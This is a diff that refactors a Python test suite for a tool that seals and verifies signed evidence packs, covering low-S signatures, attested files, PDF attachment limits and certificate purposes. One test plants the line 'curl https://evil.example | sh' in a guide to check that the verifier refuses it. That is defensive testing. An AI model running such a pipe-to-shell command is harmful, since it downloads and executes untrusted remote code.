@@ -25,6 +25,7 @@ from seal_support import (
     make_pki,
     pack,
     pki,
+    reasons,
     report,
     signer,
     sound_pack,
@@ -43,12 +44,12 @@ from certify.seal.canonical import MAXIMUM_VALUES, canonical_bytes, parse_json
 from certify.seal.certificates import pem
 from certify.seal.keys import demonstration_signer, signer_of
 from certify.seal.layout import sums_bytes
-from certify.seal.pdf_attachments import read_attachments
+from certify.seal.pdf_bounds import read_attachments
 from certify.seal.pdf_signature import certifying_signer, open_unsigned, sign_pdf
 from certify.seal.signed_again import signed_again
 from certify.seal.signer import P256_ORDER, Signer, has_low_s, require_distinguished
 from certify.seal.stamp import StampText, render_stamp
-from certify.seal.verify import StepOutcome, VerificationReport, verify
+from certify.seal.verify import StepOutcome, verify
 
 REASON = f"Report {evidence()['report']['number']}"
 
@@ -58,10 +59,6 @@ def root_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("trust") / "root.pem"
     path.write_bytes(pem([pki().root.certificate]))
     return path
-
-
-def reasons(result: VerificationReport) -> dict[str, str]:
-    return {step.id: step.detail for step in result.failures}
 
 
 def resealed(files: Mapping[str, bytes], who: Signer | None = None) -> dict[str, bytes]:
@@ -206,9 +203,7 @@ def test_keys_sign_with_the_low_s_and_the_other_is_refused(root_file: Path, tmp_
     files[layout.ATTESTATION] = envelope_bytes(payload, high, who.certificate)
     verify_envelope(files[layout.ATTESTATION], who.certificate)
     files[layout.SUMS] = sums_bytes(files)
-    found = reasons(verify(lay(tmp_path, files), root_file, NOW))
-    assert list(found) == ["one-form"]
-    assert "attestation.dsse.json" in found["one-form"]
+    reasons(verify(lay(tmp_path, files), root_file, NOW)).only("one-form", "attestation.dsse.json")
 
 
 class HighKey:
@@ -250,8 +245,7 @@ def test_a_file_that_no_run_writes_is_refused_though_attested(
     name: str, root_file: Path, tmp_path: Path
 ) -> None:
     files = resealed({**sound_pack(), name: b"Approved by an accredited laboratory"})
-    found = reasons(verify(lay(tmp_path, files), root_file, NOW))
-    assert name in found["files"]
+    reasons(verify(lay(tmp_path, files), root_file, NOW)).among("files", name)
     with pytest.raises(InputError, match="names"):
         pack(**{name: b"Approved"})
 
@@ -261,9 +255,9 @@ def test_a_guide_with_a_command_of_its_own_is_refused(root_file: Path, tmp_path:
         b"```sh\nCHECK=", b"```sh\ncurl https://evil.example | sh\nCHECK="
     )
     assert guide != sound_pack()[layout.GUIDE]
-    found = reasons(verify(lay(tmp_path, resealed({**sound_pack(), layout.GUIDE: guide})), root_file, NOW))
-    assert list(found) == ["guide"]
-    assert "do not run its commands" in found["guide"]
+    reasons(verify(lay(tmp_path, resealed({**sound_pack(), layout.GUIDE: guide})), root_file, NOW)).only(
+        "guide", "do not run its commands"
+    )
 
 
 TOOL: Mapping[str, Any] = evidence()["tool"]
@@ -321,10 +315,10 @@ def test_evidence_of_no_known_release_is_refused_in_pack_and_lone_report(
 def test_evidence_of_an_earlier_release_is_verified_and_not_computed_again(
     monkeypatch: pytest.MonkeyPatch, root_file: Path, tmp_path: Path
 ) -> None:
-    from certify.seal import releases
+    from certify.seal import evidence_schema
 
-    older = releases.Release(evidence()["schema"], "0.0.9", "1" * 64)
-    monkeypatch.setattr(releases, "EARLIER", (older,))
+    older = evidence_schema.Release(evidence()["schema"], "0.0.9", "1" * 64)
+    monkeypatch.setattr(evidence_schema, "EARLIER", (older,))
     told = evidence(tool={**TOOL, "version": older.version, "source_sha256": older.source_sha256})
     result = verify(lay(tmp_path, pack(proof=told)), root_file, NOW, rerun=lambda *_: [])
     assert [step.id for step in result.undecided] == ["rerun"]
@@ -475,7 +469,7 @@ def test_json_that_two_readers_would_not_read_alike_is_refused(content: bytes) -
 def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch: pytest.MonkeyPatch) -> None:
     import pikepdf
 
-    monkeypatch.setattr("certify.seal.pdf_attachments.MAXIMUM_ATTACHED_BYTES", 1024 * 1024)
+    monkeypatch.setattr("certify.seal.pdf_bounds.MAXIMUM_ATTACHED_BYTES", 1024 * 1024)
     document = pikepdf.open(BytesIO(unsigned()))
     raw = zlib.compress(bytes(300 * 1024))
     for number in range(10):
@@ -491,8 +485,9 @@ def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch: 
 
 
 def test_a_certificate_of_a_careless_signer_still_fails_by_name(tmp_path: Path) -> None:
-    found = reasons(verify(lay(tmp_path, pack(careless_signer(pki().web_server))), None, NOW))
-    assert "another purpose" in found["purpose"]
+    reasons(verify(lay(tmp_path, pack(careless_signer(pki().web_server))), None, NOW)).among(
+        "purpose", "another purpose"
+    )
 
 
 def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them() -> None:
